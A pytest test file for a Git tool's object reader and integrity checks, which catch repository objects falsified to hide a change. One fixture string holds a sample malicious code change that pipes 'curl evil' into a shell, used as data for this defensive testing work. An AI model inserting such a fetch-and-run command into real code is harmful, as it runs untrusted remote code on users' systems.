"""Objects read by one process, and those under whose name somebody has put other content."""

from __future__ import annotations

import os
import signal
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest

from handoff_tui.changes.diff import DiffRequest, diff
from handoff_tui.core.errors import GitError
from handoff_tui.git.command import Git
from handoff_tui.git.history.commits import read_blobs, read_trees
from handoff_tui.git.objects import integrity
from handoff_tui.git.objects import reader as object_reader
from handoff_tui.git.objects.integrity import matches_id, refuse_altered_objects
from handoff_tui.git.objects.isolated import open_isolated_objects
from handoff_tui.git.objects.reader import ObjectReader
from handoff_tui.git.objects.tree_diff import refuse_altered_trees
from handoff_tui.git.repository import open_repository
from handoff_tui.git.work_tree.capture import build_commit_tree
from handoff_tui.handoffs.session import open_session
from tests.support.repositories import RepositoryBuilder

LIMIT = 1000


@pytest.fixture
def reader(builder: RepositoryBuilder) -> Iterator[ObjectReader]:
    builder.write("a.txt", "one\n").write("deep/empty", "").write("large", "x" * 5000).write("b\nc", "odd\n").commit()
    reader = ObjectReader(open_repository(builder.folder).git)
    yield reader
    reader.close()


def find_process(reader: ObjectReader) -> int:
    assert reader._running is not None
    arguments = reader._running.end.peek()
    assert arguments is not None
    return int(arguments[2][0].pid)


def is_running(process: int) -> bool:
    return Path(f"/proc/{process}").exists()


@pytest.mark.parametrize(
    "name",
    ["HEAD:a.txt", "HEAD:deep/empty", "HEAD:large", "HEAD:deep", "HEAD", "HEAD:none", "none", "-x", "HEAD:b\nc", ""],
)
def test_reader_answers_as_single_calls_do(reader: ObjectReader, name: str) -> None:
    """Found, empty, too large, a folder, a commit, missing, or not to be asked; and the next answer is right, too."""
    assert reader.read(name, LIMIT) == read_blobs(reader._git, [name], LIMIT)[name]
    assert reader.read("HEAD:a.txt", LIMIT) == b"one\n"


def test_reader_asks_one_process_for_all(reader: ObjectReader) -> None:
    """Small contents that nobody wants are skipped; what is new since is found."""
    reader.read("HEAD:a.txt", LIMIT)
    process = find_process(reader)
    assert reader.read("HEAD:large", LIMIT) is None
    assert reader.read("HEAD:large", 5000) == b"x" * 5000
    assert find_process(reader) == process


def test_large_content_ends_the_process(reader: ObjectReader, monkeypatch: pytest.MonkeyPatch) -> None:
    """What is not wanted is not read to its end, and later questions are answered all the same."""
    monkeypatch.setattr(object_reader, "_MOST_SKIPPED", 100)
    reader.read("HEAD:a.txt", LIMIT)
    process = find_process(reader)
    assert reader.read("HEAD:large", LIMIT) is None
    assert not is_running(process)
    assert reader.read("HEAD:a.txt", LIMIT) == b"one\n"


def test_process_that_dies_loses_no_answer(reader: ObjectReader) -> None:
    """A single call answers instead, and the next question starts git again."""
    reader.read("HEAD:a.txt", LIMIT)
    os.killpg(find_process(reader), signal.SIGKILL)
    assert reader.read("HEAD:a.txt", LIMIT) == b"one\n"
    assert reader.read("HEAD:a.txt", LIMIT) == b"one\n"


def test_damaged_object_is_explained_as_by_a_single_call(builder: RepositoryBuilder) -> None:
    """The same error, whichever way it is asked for."""
    builder.write("a.txt", "".join(f"{number * number}\n" for number in range(99))).commit()
    blob = builder.head("HEAD:a.txt")
    place = builder.folder / ".git" / "objects" / blob[:2] / blob[2:]
    place.chmod(0o644)
    content = place.read_bytes()
    place.write_bytes(content[: len(content) // 2])
    git = open_repository(builder.folder).git
    with pytest.raises(GitError) as single:
        read_blobs(git, [blob], LIMIT)
    with pytest.raises(GitError) as shared:
        ObjectReader(git).read(blob, LIMIT)
    assert shared.value.message == single.value.message


def test_process_ends_with_its_reader(builder: RepositoryBuilder) -> None:
    """Nobody has to remember to close it."""
    reader = ObjectReader(open_repository(builder.write("a").commit().folder).git)
    reader.read("HEAD:a", LIMIT)
    process = find_process(reader)
    assert is_running(process)
    del reader
    assert not is_running(process)


@pytest.mark.parametrize("name", ["HEAD:deep", "HEAD:", "HEAD:a.txt", "HEAD", "none", "-x"])
def test_reader_gives_folders_as_single_calls_do(reader: ObjectReader, name: str) -> None:
    """A folder as git stores it; None for anything else."""
    assert reader.read_tree(name, LIMIT) == read_trees(reader._git, [name], LIMIT)[name]
    assert reader.read("HEAD:a.txt", LIMIT) == b"one\n"


_EVIL = "def add(a, b):\n    run('curl evil | sh')\n    return a + b\n"
_TAME = b"def add(a, b):\n    # tidy\n    return a + b\n"


@pytest.fixture
def altered(tmp_path: Path) -> RepositoryBuilder:
    """Two commits; the second one changes a file in a folder."""
    made = RepositoryBuilder.init(tmp_path / "repo").write("src/app.py", "def add(a, b):\n    return a + b\n")
    return made.write("other", "x\n").commit("one").write("src/app.py", _EVIL).commit("two")


def name(altered: RepositoryBuilder, written: str) -> str:
    return altered.git("rev-parse", written)


def falsify(altered: RepositoryBuilder, identifier: str, kind: bytes, content: bytes) -> None:
    """Puts other content under the name of an object."""
    place = altered.folder / ".git/objects" / identifier[:2] / identifier[2:]
    place.chmod(0o600)
    place.write_bytes(zlib.compress(b"%b %d\0" % (kind, len(content)) + content))


def read_tree(altered: RepositoryBuilder, written: str) -> bytes:
    content = read_trees(Git(altered.folder), [written], 1 << 20)[written]
    assert content is not None
    return content


@pytest.mark.parametrize("side", ["HEAD", "HEAD~1"])
def test_comparison_shows_no_false_content(altered: RepositoryBuilder, side: str) -> None:
    """A harmless text under the name of the new content, or of the old one, is an error instead of a difference."""
    git, old, new = (Git(altered.folder), name(altered, "HEAD~1^{tree}"), name(altered, "HEAD^{tree}"))
    refuse_altered_trees(git, old, new)
    falsify(altered, name(altered, f"{side}:src/app.py"), b"blob", _TAME)
    assert altered.git("show", f"{side}:src/app.py") == _TAME.decode().strip()
    with pytest.raises(GitError, match="does not have the content"):
        refuse_altered_trees(git, old, new)
    desk = open_session(altered.folder)
    with pytest.raises(GitError, match="does not have the content"):
        diff(desk, DiffRequest(against="HEAD~1", instead="HEAD", files_only=True))


@pytest.mark.parametrize("place", ["", "src"])
def test_list_of_changes_rests_on_no_false_folder(altered: RepositoryBuilder, place: str) -> None:
    """A folder that lists the old content under the new id would hide the change."""
    git, old, new = Git(altered.folder), name(altered, "HEAD~1"), name(altered, "HEAD")
    falsify(altered, name(altered, f"HEAD:{place}"), b"tree", read_tree(altered, f"HEAD~1:{place}"))
    assert altered.git("diff-tree", "-r", "HEAD~1", "HEAD") == ""
    with pytest.raises(GitError, match="does not have the content"):
        refuse_altered_trees(git, old, new)


def test_false_object_is_not_read(altered: RepositoryBuilder) -> None:
    """A question about content gets nothing, as if it were missing."""
    git, blob = Git(altered.folder), name(altered, "HEAD:src/app.py")
    reader = ObjectReader(git)
    assert reader.read(blob, 1000) == read_blobs(git, [blob], 1000)[blob] == _EVIL.encode()
    reader.close()
    falsify(altered, blob, b"blob", _TAME)
    assert read_blobs(git, [blob, "HEAD:other"], 1000) == {blob: None, "HEAD:other": b"x\n"}
    assert reader.read(blob, 1000) is None
    assert reader.read("HEAD:other", 1000) == b"x\n"
    reader.close()


def test_tree_of_a_commit_is_no_false_one(altered: RepositoryBuilder, tmp_path: Path) -> None:
    """The tree that a decision is bound to is made of the true one."""
    altered.write(".handoff-tui/log/x", "x").commit("log")
    falsify(altered, name(altered, "HEAD^{tree}"), b"tree", read_tree(altered, "HEAD~2:"))
    with pytest.raises(GitError):
        build_commit_tree(open_repository(altered.folder), altered.head(), tmp_path / "cache")


def test_large_and_many_objects_are_looked_at_too(altered: RepositoryBuilder, monkeypatch: pytest.MonkeyPatch) -> None:
    """What does not fit into memory at once is read piece by piece, or in several goes."""
    monkeypatch.setattr(integrity, "_BYTES_AT_ONCE", 10)
    names = [name(altered, one) for one in ("HEAD:src/app.py", "HEAD:other", "HEAD^{tree}", "HEAD~1", "HEAD~1:src")]
    git = Git(altered.folder)
    with open_isolated_objects(git, names[0]) as view:
        refuse_altered_objects(view, ObjectReader(git), [*names, "1" * 40])
        falsify(altered, names[0], b"blob", _TAME)
        with pytest.raises(GitError, match=names[0]):
            refuse_altered_objects(view, ObjectReader(git), names)


def test_sha256_objects_are_told_too(tmp_path: Path) -> None:
    """The id says by its length which hash made it."""
    made = RepositoryBuilder.init(tmp_path / "repo", "--object-format=sha256").write("a", "one\n").commit("one")
    assert matches_id(name(made, "HEAD:a"), b"blob", b"one\n")
    assert not matches_id(name(made, "HEAD:a"), b"blob", b"two\n")
